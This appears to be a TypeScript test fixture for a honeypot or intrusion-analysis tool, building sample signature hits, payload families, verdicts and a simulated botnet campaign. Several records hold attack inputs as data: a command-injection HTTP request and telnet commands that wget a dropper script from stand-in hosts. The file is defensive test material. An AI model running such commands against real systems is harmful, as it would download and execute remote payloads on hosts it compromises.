// What analysis would have found in the sample records: one session with a signature, one family, verdicts, places. With a
// hostile one, in which every text an attacker can choose is hostile.

import type { Micros } from '../../src/base/clock.ts';
import type { WeirEvent } from '../../src/model/event.ts';
import type { Insights, PayloadFamily, SessionInsight, SignatureHit, Verdict } from '../../src/model/insight.ts';
import { hostileText, sampleChunk, sampleId, sampleSession } from './sample-records.ts';

export const sampleHit = (facts: Partial<SignatureHit> = {}): SignatureHit => ({
  rule: 'shell-command-download',
  name: 'Download by a shell command',
  intention: 'exploit',
  severity: 'high',
  tags: ['iot', 'dropper'],
  cves: ['CVE-2017-17215'],
  techniques: ['T1190', 'T1105'],
  captures: { url: 'http://198.51.100.1/x' },
  ...facts,
});

export const sampleFamily = (at: Micros, facts: Partial<PayloadFamily> = {}): PayloadFamily => ({
  id: '3fa90c11d2e4b5a6',
  firstSeen: at,
  payloadHash: 'ab'.repeat(32),
  example: Buffer.from('GET /shell?cd+/tmp;wget+http://198.51.100.1/x HTTP/1.1\r\n'),
  sketch: new Uint8Array(8),
  label: 'HTTP GET /shell',
  ...facts,
});

export const sampleVerdict = (at: Micros, number: number, facts: Partial<Verdict> = {}): Verdict => ({
  id: sampleId(at, number),
  behaviour: 'port-scan',
  source: '198.51.100.7',
  start: at,
  end: at + 42e6,
  severity: 'medium',
  confidence: 'certain',
  destination: '10.66.3.4',
  diversion: 'dmz',
  hits: 120,
  ports: 118,
  hosts: 1,
  credentials: 0,
  tool: 'ZMap',
  techniques: ['T1046'],
  cves: [],
  evidence: ['118 ports of 10.66.3.4 in 42 s; 15 in 5 minutes are a scan', 'SYNs without options, IP identification 54321'],
  records: [],
  ...facts,
});

/** Six sources that send the same dropper from the same host within minutes, among thirty that have nothing in common. */
export function sampleCampaign(at: Micros): { readonly events: WeirEvent[]; readonly insights: Insights } {
  const events: WeirEvent[] = [];
  const sessions: SessionInsight[] = [];
  for (let index = 0; index < 36; index += 1) {
    const together = index < 6;
    const start = at + index * 20e6;
    const ip = together ? `192.0.2.${10 + index}` : `198.51.100.${100 + index}`;
    const session = sampleSession(start, 500 + index, {
      source: { ip, port: 40_000 },
      protocol: 'telnet',
      chunks: [sampleChunk(start, 'in', together ? 'wget http://203.0.113.66/bot.sh' : `ls ${index}`)],
    });
    events.push({ kind: 'session', session });
    sessions.push({
      id: session.id,
      start,
      source: ip,
      signatures: [],
      facts: together ? [{ kind: 'url', value: 'http://203.0.113.66/bot.sh' }] : [{ kind: 'command', value: `ls ${index}` }],
      family: together ? '77aa77aa77aa77aa' : index.toString(16).padStart(16, '0'),
    });
  }
  return { events, insights: { sessions, verdicts: [], families: [], places: [] } };
}

/** Of the records sampleEvents(now) makes. */
export function sampleInsights(now: Micros): Insights {
  const second = 1e6;
  const http = now - 300 * second;
  const hostile = now - 60 * second;
  const ssh = now - 12 * second;
  const sessions: SessionInsight[] = [
    {
      id: sampleId(http, 2),
      start: http,
      source: '2001:db8::7',
      signatures: [
        sampleHit(),
        sampleHit({ rule: 'web-shell-path', name: 'Web shell', severity: 'low', tags: ['web'], cves: [], captures: {} }),
      ],
      facts: [
        { kind: 'url', value: 'http://198.51.100.1/x' },
        { kind: 'command', value: 'wget http://198.51.100.1/x' },
      ],
      family: sampleFamily(http).id,
    },
    {
      id: sampleId(hostile, 5),
      start: hostile,
      source: '203.0.113.9',
      signatures: [sampleHit({ rule: 'hostile-rule', captures: { url: hostileText } })],
      facts: [{ kind: 'user-agent', value: hostileText }],
    },
    {
      id: sampleId(ssh, 1),
      start: ssh,
      source: '203.0.113.9',
      signatures: [],
      facts: [{ kind: 'client', value: 'SSH-2.0-libssh2_1.9.0' }],
    },
  ];
  return {
    sessions,
    verdicts: [
      sampleVerdict(now - 30 * second, 20),
      sampleVerdict(http, 21, {
        behaviour: 'exploitation',
        source: '2001:db8::7',
        end: http + 1e6,
        severity: 'high',
        destination: '2001:db8:66::4',
        port: 80,
        transport: 'tcp',
        hits: 1,
        ports: 1,
        tool: undefined,
        techniques: ['T1190'],
        cves: ['CVE-2017-17215'],
        evidence: ['matched shell-command-download'],
        records: [sampleId(http, 2)],
      }),
      sampleVerdict(ssh, 22, {
        behaviour: 'brute-force',
        source: '203.0.113.9',
        destination: undefined,
        port: 22,
        transport: 'tcp',
        tool: hostileText,
        evidence: [`first tried ${hostileText}`],
      }),
    ],
    families: [sampleFamily(http)],
    places: [
      { ip: '2001:db8::7', country: 'NL', asn: 64_500, organization: 'Example Net' },
      { ip: '203.0.113.9', country: 'DE', asn: 64_501, organization: hostileText },
    ],
  };
}
